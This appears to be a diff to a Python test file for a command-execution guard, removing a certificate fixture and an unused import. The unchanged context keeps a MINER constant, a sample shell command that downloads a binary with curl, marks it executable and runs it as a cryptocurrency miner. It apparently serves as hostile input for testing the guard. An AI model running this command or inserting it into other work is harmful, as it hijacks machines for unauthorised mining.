@@ -25,7 +25,7 @@ from execguard.guard.record import JsonlRecorder
 from execguard.guard.runtime import GuardRuntime
 from execguard.policy import parse_policy
 from execguard.testing import reviews
-from execguard.testing.dockerd import DockerdUnavailable, TLSFiles, make_test_certs
+from execguard.testing.dockerd import TLSFiles
 
 RULES = load_rules()
 MINER = ["sh", "-c", "curl -s http://198.51.100.7/xmrig -o /tmp/x && chmod +x /tmp/x && /tmp/x -o pool.minexmr.com:443"]
@@ -43,13 +43,6 @@ entries:
     match: {namespaces: [payments]}
 """
 
-
-@pytest.fixture(scope="module")
-def certs(tmp_path_factory: pytest.TempPathFactory) -> TLSFiles:
-    try:
-        return make_test_certs(tmp_path_factory.mktemp("certs"))
-    except DockerdUnavailable as exc:
-        pytest.skip(str(exc))
 
 
 @dataclass
